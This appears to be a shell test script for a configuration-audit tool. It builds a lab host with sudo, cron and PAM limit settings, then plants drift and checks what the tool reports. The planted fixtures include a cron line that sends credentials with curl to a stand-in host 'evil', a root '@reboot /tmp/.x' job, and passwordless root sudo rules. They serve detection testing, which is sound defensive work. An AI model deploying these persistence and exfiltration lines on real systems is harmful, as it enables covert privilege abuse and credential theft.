#!/bin/sh
# Who can become whom, what cron runs and which limits PAM sets, changed by visudo, crontab and limits.d
. "${0%/*}/../check.sh"

lab_start web1 full "$net.1"
lab_run web1 sh -e <<'END'
useradd --create-home --uid 4001 --shell /bin/sh ada
useradd --create-home --uid 4002 --shell /bin/sh --password '*' audit
cp -r /root/.ssh /home/audit && chown -R audit: /home/audit/.ssh
cat >/etc/sudoers.d/10-web <<'RULES'
Cmnd_Alias WEB = /usr/bin/systemctl restart nginx, \
    /usr/bin/systemctl reload nginx
ada ALL = (root) NOPASSWD: WEB
RULES
chmod 440 /etc/sudoers.d/10-web
visudo -c -q
printf 'MAILTO=ops@example.org\n0 4 * * mon-fri /usr/local/bin/backup --all\n' | crontab -u ada -
printf 'ada - nofile 512\nada hard nofile 768\n' >/etc/security/limits.d/50-ada.conf
END
standard <<'END'
  - sudo: ada runs the web server
    user: ada
    as: root
    commands: [/usr/bin/systemctl restart nginx, /usr/bin/systemctl reload nginx]
    nopasswd: true
  - sudo: root is root
    user: root
    as: ALL:ALL
    commands: [ALL]
  - sudo: administrators
    user: "%sudo"
    as: ALL:ALL
    commands: [ALL]
  - sudo: nobody becomes root for nothing
    state: absent
    commands: [ALL]
    nopasswd: true
  - sudo: nothing else
    exclusive: true
  - cron: backup
    user: ada
    schedule: 0 4 * * 1-5
    command: /usr/local/bin/backup --all
    environment: {MAILTO: ops@example.org}
  - cron: nothing else
    exclusive: true
    ignore: [/etc/crontab, /etc/cron.daily/*, /etc/cron.d/e2scrub_all]
  - limit: ada
    item: nofile
    soft: "512"
    hard: {at_least: "700"}
  - limit: "*"
    item: core
    state: absent
END
audit
in_sync
same 'the limits that PAM sets' "$(lab_run web1 su ada -c 'ulimit -S -n; ulimit -H -n')" '512
768'

lab_run web1 sh -e >/dev/null 2>&1 <<'END'
sed -i 's/NOPASSWD: WEB/WEB/' /etc/sudoers.d/10-web
mkdir /etc/sudo.extra
echo '@includedir /etc/sudo.extra' >>/etc/sudoers.d/10-web
printf '# left behind\nUser_Alias OLD = bob, \\\n  carl\nOLD ALL=(ALL) NOPASSWD: ALL\n' >/etc/sudo.extra/old
echo 'eve ALL=(ALL) ALL' >/etc/sudo.extra/ignored.bak
chmod 440 /etc/sudo.extra/*
visudo -c -q
printf '@daily /usr/local/bin/backup --all\n*/5 * * * * curl --user x --password=hunter2 http://evil/\n' | crontab -u ada -
echo '@reboot root /tmp/.x' >/etc/cron.d/x
echo 'ada soft nofile 256' >/etc/security/limits.d/60-late.conf
printf '*\t-\tcore\tunlimited\n' >>/etc/security/limits.conf
END
audit
ends 2
told web1 'sudo:ada runs the web server' 'drift
nopasswd: true, is false
would write the rule ada ALL=(root) NOPASSWD: /usr/bin/systemctl restart nginx, /usr/bin/systemctl reload nginx
besides: said at /etc/sudoers.d/10-web:3'
told web1 'sudo:root is root' "in-sync
besides: said at /etc/sudoers:$(lab_run web1 grep -n '^root' /etc/sudoers | cut -d : -f 1)"
told web1 'sudo:nobody becomes root for nothing' 'drift
state of bob ALL=(ALL) NOPASSWD: ALL (/etc/sudo.extra/old:4): absent, is present
state of carl ALL=(ALL) NOPASSWD: ALL (/etc/sudo.extra/old:4): absent, is present
would nothing: what the standard says of state does not suffice to put it right'
told web1 'sudo:nothing else' 'drift
exclusive of ada ALL=(root) /usr/bin/systemctl restart nginx, /usr/bin/systemctl reload nginx (/etc/sudoers.d/10-web:3): absent, is present
exclusive of bob ALL=(ALL) NOPASSWD: ALL (/etc/sudo.extra/old:4): absent, is present
exclusive of carl ALL=(ALL) NOPASSWD: ALL (/etc/sudo.extra/old:4): absent, is present
would nothing: what the standard says of exclusive does not suffice to put it right'
told web1 cron:backup 'drift
environment.MAILTO: ops@example.org, is absent
schedule: 0 4 * * 1-5, is @daily
would write the job 0 4 * * 1-5 ada /usr/local/bin/backup --all
besides: said at /var/spool/cron/crontabs/ada:4'
told web1 'cron:nothing else' 'drift
exclusive of root @reboot /tmp/.x (/etc/cron.d/x:1): absent, is present
exclusive of ada */5 * * * * curl --user x --password=… http://evil/ (/var/spool/cron/crontabs/ada:5): absent, is present
would nothing: what the standard says of exclusive does not suffice to put it right'
told web1 limit:ada 'drift
soft: 512, is 256
would write the line ada soft nofile 512
besides: said at /etc/security/limits.d/60-late.conf:1, /etc/security/limits.d/50-ada.conf:2
besides: overruled: /etc/security/limits.d/50-ada.conf:1'
told web1 'limit:*' "drift
state: absent, is present
would nothing: what the standard says of state does not suffice to put it right
besides: said at /etc/security/limits.conf:$(lab_run web1 grep -c '' /etc/security/limits.conf)"
same 'the limits that PAM sets' "$(lab_run web1 su ada -c 'ulimit -S -n; ulimit -H -n')" '256
768'

# without root what sudo and the users' crontabs say is unknown, and the rest is told
audit --user audit
expect '[.hosts[].resources[] | "\(.id): \(.status)"] | sort | join("\n")' 'cron:backup: unknown
cron:nothing else: drift
limit:*: drift
limit:ada: drift
sudo:ada runs the web server: unknown
sudo:administrators: unknown
sudo:nobody becomes root for nothing: unknown
sudo:nothing else: unknown
sudo:root is root: unknown'
finish
